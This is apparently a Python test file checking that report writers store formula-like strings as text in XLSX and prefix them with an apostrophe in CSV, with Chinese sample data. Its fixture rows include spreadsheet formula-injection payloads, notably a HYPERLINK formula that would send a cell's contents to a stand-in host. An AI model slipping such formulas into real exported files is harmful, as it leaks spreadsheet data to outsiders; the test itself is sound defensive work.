"""The report writers keep text as text (issue 17 items 1 and 6): a string that looks like a
formula is an explicit string cell in the XLSX and starts with an apostrophe in the CSV; a
character no sheet can hold is dropped rather than failing the whole file. Numbers stay
numbers."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from services.reports import write_csv, write_xlsx

ROWS: list[list[str | int | float | None]] = [
    ['=HYPERLINK("http://x/?"&A1,"点此")', 12, None],
    ["+1+1", -0.5, "@SUM(A1)"],
    ["张\x01伟", 3, "-减号开头"],
]


def test_xlsx_cells_are_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "r.xlsx", [("表", ["姓名", "学时", "备注\x02"], ROWS)])
    sheet = load_workbook(path).worksheets[0]
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells[0] == [("姓名", "s"), ("学时", "s"), ("备注", "s")]
    assert cells[1][0] == ('=HYPERLINK("http://x/?"&A1,"点此")', "s")  # not "f"
    assert cells[1][1] == (12, "n")
    assert cells[2] == [("+1+1", "s"), (-0.5, "n"), ("@SUM(A1)", "s")]
    assert cells[3][0] == ("张伟", "s")


def test_csv_values_cannot_start_a_formula(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "r.csv", ["姓名", "学时", "备注"], ROWS)
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["'=HYPERLINK(\"http://x/?\"&A1,\"点此\")", "12", ""]
    assert rows[2] == ["'+1+1", "-0.5", "'@SUM(A1)"]  # a number keeps its sign
    assert rows[3] == ["张伟", "3", "'-减号开头"]
